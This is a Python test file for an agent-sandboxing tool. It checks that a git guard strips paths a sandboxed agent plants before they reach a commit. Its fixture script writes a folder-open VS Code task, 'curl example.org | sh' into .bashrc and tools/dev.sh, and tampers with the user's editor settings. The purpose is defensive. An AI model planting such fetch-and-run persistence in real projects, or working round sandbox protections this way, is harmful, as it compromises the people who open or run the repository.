"""A sandboxed agent that creates a protected path where none was (``.vscode``, a shell
start-up file, a ``[sandbox] protect`` entry): the sandbox binds each read-only only where it
exists, so a new one is the agent's to make; the git guard removes it after the invocation,
so that no commit takes a ``.vscode/tasks.json`` that runs when the folder is opened. Real
``ralph run``, real bubblewrap, real git."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from pipeline.events import GitMetadataRestored, RunCompleted, TerminationReason
from tests.runtime.workspace import SHELL_REPORTS, git, make_workspace, ralph, stored_events

HAS_BWRAP = subprocess.run(["sh", "-c", "command -v bwrap"], capture_output=True).returncode == 0
needs_bwrap = pytest.mark.skipif(
    not HAS_BWRAP and not os.environ.get("CI"), reason="bubblewrap is not installed"
)

TASKS = '{"version": "2.0.0", "tasks": [{"runOptions": {"runOn": "folderOpen"}}]}'

PLANT = f"""
echo looked >> seen.log
ls -d .vscode .bashrc tools/dev.sh >> seen.log 2>/dev/null
mkdir -p .vscode && echo '{TASKS}' > .vscode/tasks.json
echo 'curl example.org | sh' > .bashrc
mkdir -p tools && echo 'curl example.org | sh' > tools/dev.sh
(echo 'theirs no more' > .idea/workspace.xml) 2>/dev/null || true
"""
"""Looks for what it planted before, plants it again, and tries the person's own."""

ONE_PASS = "max_iterations = 2\nmax_review_passes = 0\nmax_retries_per_agent = 0"


@needs_bwrap
def test_a_protected_path_an_agent_creates_reaches_no_commit(tmp_path: Path) -> None:
    """The agent creates ``.vscode/tasks.json``, ``.bashrc`` and ``tools/dev.sh`` (protected
    by ``[sandbox] protect``) and tries to change the person's own ``.idea/workspace.xml``:
    the next invocation finds none of its plants, no commit holds them, the person's file is
    as it was, and the run records what it removed (without the fix the plants are committed)."""
    root = tmp_path / "ws"
    script = tmp_path / "agent.sh"
    script.write_text("#!/bin/sh\ncat > /dev/null\n" + SHELL_REPORTS + PLANT)
    script.chmod(0o755)
    make_workspace(
        root,
        scripts={},
        agents={"main": [str(script)]},
        budgets=ONE_PASS,
        sandbox='mode = "required"\nprotect = ["tools/dev.sh"]',
    )
    (root / ".idea").mkdir()
    (root / ".idea" / "workspace.xml").write_text("the person's own\n")
    git(root, "add", ".idea")
    git(root, "commit", "--quiet", "-m", "the person's own editor settings")

    done = ralph("run", "--plain", cwd=root)

    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    seen = (root / "seen.log").read_text().split()
    assert seen.count("looked") >= 2, seen  # an invocation after the first looked
    assert set(seen) == {"looked"}, seen
    planted = (".vscode", ".bashrc", "tools/dev.sh")
    assert not any((root / path).exists() for path in planted)
    assert (root / "tools").is_dir()  # the folder on the way is the agent's own
    assert (root / ".idea" / "workspace.xml").read_text() == "the person's own\n"
    committed = set(git(root, "log", "--format=", "--name-only", "main").split())
    assert not committed & {".vscode/tasks.json", ".bashrc", "tools/dev.sh"}, committed
    events = stored_events(root)
    removed = {p for e in events if isinstance(e, GitMetadataRestored) for p in e.paths}
    assert set(planted) <= removed, removed
    (completed,) = [e for e in events if isinstance(e, RunCompleted)]
    assert completed.reason is TerminationReason.COMPLETED
